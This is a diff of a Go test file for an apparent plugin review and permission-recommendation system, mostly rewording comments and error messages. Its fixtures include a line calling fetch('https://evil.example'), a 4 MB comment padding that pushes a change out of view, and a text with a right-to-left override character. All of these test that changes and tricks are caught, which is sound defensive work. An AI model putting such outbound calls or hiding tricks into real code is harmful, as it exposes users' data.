@@ -126,7 +126,7 @@ func TestInspectionIsReadable(t *testing.T) {
 }
 
 // What has changed since the last review is a diff of what the author wrote; what
-// changed in libraries is told by their hashes.
+// changed in libraries is shown by their hashes.
 func TestChangesSinceReview(t *testing.T) {
 	const old, now = "  var send = () => 1;\n", "  var send = () => fetch('https://evil.example');\n"
 	w := newWorld(t, mail(old))
@@ -169,7 +169,7 @@ func TestChangesSinceReview(t *testing.T) {
 	}
 }
 
-// A change behind what is kept of a large file is told all the same.
+// A change beyond the stored part of a large file is shown too.
 func TestChangeBehindWhatIsKept(t *testing.T) {
 	padding := "  /*" + strings.Repeat("x", 4<<20) + "*/\n"
 	w := newWorld(t, mail(padding+"  var send = () => 1;\n"))
@@ -232,12 +232,12 @@ func TestReviewTokens(t *testing.T) {
 
 func second[T any](_ T, err error) error { return err }
 
-// A recommendation changes nothing that runs (fault 26), is about the content that
-// was inspected (fault 28), and goes when a person decides.
+// A recommendation enables nothing. It is for the inspected content, and ends when the
+// user decides.
 func TestRecommendationChangesNothing(t *testing.T) {
 	w := newWorld(t, mail("  var a;\n"))
 	one, _ := w.Set().Plugin("mail")
-	w.review("mail", wire.PermissionOff) // the person had it, and switched it off
+	w.review("mail", wire.PermissionOff) // the user has turned it off
 	if err := w.policy.Recommend("mail", one.ContentHash(), "auto", " reads\nonly\u202e "+strings.Repeat("x", 2000), "claude"); err != nil {
 		t.Fatal(err)
 	}
@@ -258,11 +258,11 @@ func TestRecommendationChangesNothing(t *testing.T) {
 	w.load(mail("  var changed;\n"))
 	two, _ := w.Set().Plugin("mail")
 	if w.policy.Recommended(two) != nil {
-		t.Error("it is said of what nobody has looked at")
+		t.Error("the recommendation applies to content that was not inspected")
 	}
 	err := w.policy.Recommend("mail", one.ContentHash(), "ask", "", "claude")
-	if err == nil || !strings.Contains(err.Error(), "it has changed since") {
-		t.Errorf("what is gone was recommended: %v", err)
+	if err == nil || !strings.Contains(err.Error(), "has changed since you inspected it") {
+		t.Errorf("earlier content was recommended: %v", err)
 	}
 	for _, permission := range []wire.Permission{"off", "", "all"} {
 		if err := w.policy.Recommend("mail", two.ContentHash(), permission, "", "claude"); err == nil {
